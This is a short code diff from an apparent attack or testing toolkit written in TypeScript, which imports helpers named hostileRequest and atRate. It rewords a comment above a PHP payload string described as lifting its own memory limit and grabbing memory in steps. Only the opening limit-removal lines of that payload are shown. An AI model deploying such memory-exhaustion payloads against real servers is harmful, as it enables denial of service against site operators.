@@ -1,7 +1,7 @@
 import type { Attack } from './attack.ts'
 import { atRate, hostileRequest, siteOf } from './hostile.ts'
 
-/** Lifts its own limit, takes what it can get in steps, and keeps it. */
+/** Lifts its own limit, allocates what it can get in steps, and keeps it. */
 const eater = `<?php
 ini_set('memory_limit', '-1');
 set_time_limit(0);
